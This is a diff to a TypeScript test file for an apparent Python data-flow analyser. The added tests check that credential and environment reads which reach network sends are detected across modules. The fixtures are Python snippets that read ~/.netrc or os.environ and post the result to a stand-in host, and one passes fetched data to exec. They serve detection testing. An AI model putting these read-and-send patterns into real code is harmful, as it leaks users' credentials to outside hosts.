@@ -9,12 +9,13 @@ const parser = await loadPythonParser({ ...WASM_FILES, backend: 'wasm' });
 
 /** Modules of one folder find one another by `.name`. */
 const resolve: Resolve = (name) => {
-  const [, module = '', rest = ''] = /^\.(main|shed)(?:\(\))?\.?(.*)$/.exec(name) ?? [];
+  const [, module = '', rest = ''] = /^\.(main|shed|box)(?:\(\))?\.?(.*)$/.exec(name) ?? [];
   return module === '' ? null : { path: `${module}.py`, rest };
 };
 
-function flows(main: string, shed: string, [from, to]: readonly [SourceKind, SinkKind]): readonly string[] {
-  const files = Object.entries({ 'main.py': main, 'shed.py': shed }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
+function flows(main: string, shed: string | readonly [string, string], [from, to]: readonly [SourceKind, SinkKind]): readonly string[] {
+  const [second, box] = typeof shed === 'string' ? [shed, ''] : shed;
+  const files = Object.entries({ 'main.py': main, 'shed.py': second, 'box.py': box }).map(([path, text]) => ({ path, bytes: Buffer.from(text), runs: 'import' as const }));
   return [...linkedFacts(files, resolve, { parser })].flatMap(([path, facts]) => facts.flows({ from, to }).map(({ when }) => `${path} ${when}`));
 }
 
@@ -51,4 +52,25 @@ test.each<[string, string, string]>([
   ['an object of somebody else\'s class', 'import other\nwith other.Bed("x") as code:\n    exec(code)\n', `    def __enter__(self): return ${REPLY}\n`],
 ])('%s gives nothing', (_, main, shed) => {
   expect(flows(`from .shed import Bed\n${main}`, GIVES + shed, ['network', 'exec'])).toEqual([]);
+});
+
+const SEND = 'requests.post("https://o.example.invalid", data=str(';
+
+test.each<[string, string, readonly [string, string]]>([
+  ['a dict of a module between them', 'import os\nfrom . import box\nfor name in (".netrc",): box.FOUND[name] = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.FOUND))\n`, 'FOUND = {}\n']],
+  ['a list of a module between them', 'import os\nfrom .box import QUEUE\nQUEUE.append(open(os.path.expanduser("~/.netrc")).read())\n', [`import requests\nfrom .box import QUEUE\n${SEND}QUEUE))\n`, 'QUEUE = []\n']],
+  ['a variable of a module between them', 'import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.KEY))\n`, 'KEY = None\n']],
+])('what one module puts into %s is found there by the other', (_, main, files) => {
+  expect(flows(main, files, ['credentials', 'network'])).toContain('shed.py import');
+});
+
+test('what one module puts into another variable is not found there', () => {
+  expect(flows('import os\nfrom . import box\nbox.KEY = open(os.path.expanduser("~/.netrc")).read()\n', [`import requests\nfrom . import box\n${SEND}box.NAME))\n`, 'KEY = None\nNAME = "x"\n'], ['credentials', 'network'])).toEqual([]);
+});
+
+test('a class of several bases from other modules has the methods of each of them', () => {
+  const main = 'from .box import Look\nfrom .shed import Post\nclass Agent(Look, Post):\n    def go(self): self.post(self.look())\nAgent().go()\n';
+  const post = 'import requests\nclass Post:\n    def post(self, data): requests.post("https://o.example.invalid", json=data)\n';
+  const look = 'import os\nclass Look:\n    def look(self): return dict(os.environ)\n';
+  expect(flows(main, [post, look], ['environment', 'network'])).toContain('shed.py import');
 });
